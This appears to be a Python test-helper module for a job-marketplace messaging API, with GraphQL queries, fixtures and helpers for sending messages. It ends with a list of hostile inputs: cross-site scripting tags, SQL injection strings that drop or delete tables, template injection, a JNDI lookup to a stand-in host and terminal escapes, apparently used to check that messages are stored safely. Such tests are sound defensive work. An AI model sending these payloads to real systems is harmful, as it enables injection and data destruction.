"""Helpers of tests/api/test_messages.py, shared with the tests that build on it."""

from __future__ import annotations

import json
import uuid
from dataclasses import dataclass
from typing import Any

import models
from resolvers.tokens import hash_password
from tests.support.api import Actor, Api

THREAD_FIELDS = """id lastMessageAt unreadCount open job { id status } customer { id }
  worker { id }"""


THREADS = f"""query($first: Int, $after: String) {{ threads(first: $first, after: $after) {{
  edges {{ cursor node {{ {THREAD_FIELDS} }} }} pageInfo {{ hasNextPage endCursor }} }} }}"""


MESSAGES = """query($thread: ID!, $first: Int, $after: String) {
  messages(threadId: $thread, first: $first, after: $after) {
    edges { cursor node { id text sender { id displayName } createdAt thread { id } } }
    pageInfo { hasNextPage endCursor } } }"""


SEND = """mutation($thread: ID!, $text: String!) { sendMessage(threadId: $thread, text: $text) {
  id text sender { id displayName } createdAt thread { id unreadCount lastMessageAt } } }"""


ACCEPT_QUOTE = "mutation($id: ID!) { acceptQuote(quoteId: $id) { id status } }"


ADMIN_PASSWORD = "a long admin secret"


@dataclass
class Conversation:
    """One open job in Berlin with two quoting workers, hence two threads."""

    customer: Actor
    worker: Actor  # quoted first; `thread_id` is the customer's thread with this worker
    other_worker: Actor  # quoted too; `other_thread_id` is its thread
    job_id: str
    quote_id: str
    other_quote_id: str
    thread_id: str
    other_thread_id: str


async def open_conversation(api: Api) -> Conversation:
    customer = await api.register("CUSTOMER", "Carl")
    worker = await api.worker()
    other_worker = await api.worker()
    job = await api.post_job(customer)
    quote = await api.quote(worker, job["id"])
    other_quote = await api.quote(other_worker, job["id"])
    return Conversation(
        customer,
        worker,
        other_worker,
        job["id"],
        quote["id"],
        other_quote["id"],
        await only_thread(api, worker),
        await only_thread(api, other_worker),
    )


async def only_thread(api: Api, actor: Actor) -> str:
    [edge] = (await api.ok(THREADS, {}, actor))["threads"]["edges"]
    return edge["node"]["id"]


async def admin(api: Api) -> Actor:
    """An ADMIN made directly in the database (never self-registered), signed in normally."""
    email = f"admin-{uuid.uuid4().hex[:10]}@example.com"
    user = await models.User.create(
        email=email,
        display_name="Admin",
        role=models.Role.ADMIN,
        password_hash=await hash_password(ADMIN_PASSWORD),
    )
    data = await api.ok(
        "mutation($e: String!, $p: String!) { login(email: $e, password: $p) { token } }",
        {"e": email, "p": ADMIN_PASSWORD},
    )
    return Actor(str(user.id), data["login"]["token"], email, "ADMIN")


async def send(api: Api, actor: Actor, thread_id: str, text: str) -> dict[str, Any]:
    return (await api.ok(SEND, {"thread": thread_id, "text": text}, actor))["sendMessage"]


async def send_error(api: Api, actor: Actor | None, thread_id: str, text: str) -> dict[str, Any]:
    # JSON with \u escapes, so that even an unpaired surrogate can be sent as a client would.
    payload = json.dumps({"query": SEND, "variables": {"thread": thread_id, "text": text}})
    headers = {"content-type": "application/json"}
    if actor is not None:
        headers["authorization"] = f"Bearer {actor.token}"
    response = await api.http.post("/graphql", content=payload, headers=headers)
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["data"] is None, body
    [error] = body["errors"]
    return error


async def texts(api: Api, actor: Actor, thread_id: str, **page: Any) -> list[str]:
    data = await api.ok(MESSAGES, {"thread": thread_id, **page}, actor)
    return [edge["node"]["text"] for edge in data["messages"]["edges"]]


HOSTILE = [
    "<script>alert('x')</script>",
    "'; DROP TABLE messages; --",
    'Robert"); DELETE FROM threads WHERE ("1"="1',
    "{{7*7}} ${jndi:ldap://evil.example/a} %s %n %x",
    "  leading and trailing spaces  ",
    "line one\r\nline two\n\ttabbed\r",
    "back\\slash \\u0000 \\n not escapes",
    "\u202eRTL override\u202c and zero\u200bwidth\u200djoiner \ufeffBOM",
    "emoji 🔧🚰👩🏽‍🔧 and CJK 水管 and combining é",
    "\x01\x07\x1b[31mterminal escape\x1b[0m\x7f",
    "<img src=x onerror=alert(1)>&amp;&lt;",
    "x" * 3999 + "🚰",
]
